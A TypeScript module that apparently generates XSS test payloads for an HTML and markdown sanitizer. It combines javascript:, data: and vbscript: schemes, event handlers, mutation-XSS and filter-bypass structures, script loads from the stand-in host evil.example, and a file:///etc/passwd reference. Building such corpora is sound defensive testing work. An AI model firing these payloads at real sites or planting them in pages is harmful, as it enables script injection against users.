/** Script that would run if any of a payload reached a parser of HTML. */
const CODE = 'alert(document.domain)';

const SCHEMES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` javascript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `java&#x0A;script:${CODE}`,
  `&#106;avascript:${CODE}`,
  `&#x6A&#x61;vascript:${CODE}`,
  `javascript&colon;${CODE}`,
  `javascript://example.jp/%0A${CODE}`,
  `vbscript:${CODE}`,
  `livescript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CODE}>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
  `data:image/png,<script>${CODE}</script>`,
  `blob:https://example.jp/1`,
  `file:///etc/passwd`,
  `filesystem:https://example.jp/x`,
  `view-source:javascript:${CODE}`,
  `feed:javascript:${CODE}`,
  `//evil.example/x`,
  `/api/v1/records`,
  `https://bank.example@evil.example/`,
  `intent://scan/#Intent;scheme=zxing;end`,
  `mailto:a@example.jp?subject=x&body=${CODE}`,
];

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'ONMOUSEOVER',
  'onfocus autofocus tabindex=0',
  'onanimationstart',
];

/** Ways of writing an attribute; `@` stands for its value. */
const QUOTINGS = ['"@"', "'@'", '@', '`@`', '"@', ' = "@"'];

const URL_ELEMENTS = [
  '<a href=@>x</a>',
  '<a xlink:href=@>x</a>',
  '<x:a xmlns:x="http://www.w3.org/1999/xhtml" href=@>x</x:a>',
  '<img src=@ alt="x">',
  '<iframe src=@></iframe>',
  '<form action=@><input type=submit></form>',
  '<button formaction=@>x</button>',
  '<object data=@></object>',
  '<embed src=@>',
  '<base href=@>',
  '<link rel=stylesheet href=@>',
  '<meta http-equiv=refresh content="0;url=@">',
  '<svg><a xlink:href=@><text>x</text></a></svg>',
  '<math><mtext href=@>x</mtext></math>',
  '<video poster=@ src=@></video>',
  '<div style="background:url(@)">x</div>',
  '<table background=@><tr><td>x</td></tr></table>',
];

const HANDLER_ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'p',
  'input',
  'details open',
  'video src=x',
  'marquee',
  'x-y',
];

/** Ways around a filter that edits text. */
const STRUCTURES = [
  `<script>${CODE}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<script\u0000>${CODE}</script>`,
  `<script/x>${CODE}</script >`,
  `<script>${CODE}`,
  `<<script>${CODE}//<</script>`,
  `</p><script>${CODE}</script><p>`,
  `<!--><script>${CODE}</script>-->`,
  `<!--<img src="--><img src=x onerror=${CODE}//">`,
  `<![CDATA[<script>${CODE}</script>]]>`,
  `<?xml version="1.0"?><script>${CODE}</script>`,
  `<!DOCTYPE x [<!ENTITY e "<script>${CODE}</script>">]><p>&e;</p>`,
  `<title><img src=x onerror=${CODE}></title>`,
  `<textarea><script>${CODE}</script></textarea>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CODE}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
  `<template><script>${CODE}</script></template>`,
  `<style>@import 'javascript:${CODE}';</style>`,
  `<p style="x:expression(${CODE})">x</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;opacity:0">x</p>`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${CODE}&amp;lt;/script&amp;gt;`,
  `+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
  '{{constructor.constructor("alert(1)")()}}',
  '<p __proto__="x" constructor="y">x</p>',
  '<__proto__>x</__proto__><constructor>y</constructor>',
  `"><svg onload=${CODE}>`,
  `'-${CODE}-'`,
  `<ruby>x<rt><script>${CODE}</script></rt></ruby>`,
  `<plaintext><script>${CODE}</script>`,
  `<xmp><script>${CODE}</script></xmp>`,
  `<isindex action="javascript:${CODE}" type=image>`,
  `<portal src="javascript:${CODE}"></portal>`,
];

const MARKDOWN_LINKS = [
  '[x](@)',
  '[x](<@>)',
  '![x](@)',
  '<@>',
  '[x][1]\n\n[1]: @',
  '[![y](@)](@)',
  '**[x](@ "title")**',
];

/** XHTML that tries to run script or to lead somewhere else: each scheme in each place and quoting, and structures. */
export const HOSTILE_XHTML: readonly string[] = [
  ...URL_ELEMENTS.flatMap((element, index) =>
    SCHEMES.map((scheme, turn) => {
      const quoting = QUOTINGS[(index + turn) % QUOTINGS.length] ?? '"@"';
      return element.replaceAll('@', () => quoting.replace('@', () => scheme));
    }),
  ),
  ...HANDLER_ELEMENTS.flatMap((element) =>
    HANDLERS.flatMap((handler) => [
      `<${element} ${handler}=${CODE}>x`,
      `<${element}/${handler}="${CODE}"/>x`,
    ]),
  ),
  ...STRUCTURES,
];

/** The same for markdown, with HTML in it. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  ...MARKDOWN_LINKS.flatMap((link) => SCHEMES.map((scheme) => link.replaceAll('@', () => scheme))),
  ...HOSTILE_XHTML,
  ...HOSTILE_XHTML.map((payload) => `**x**\n\n${payload}\n\n- y ${payload}`),
];
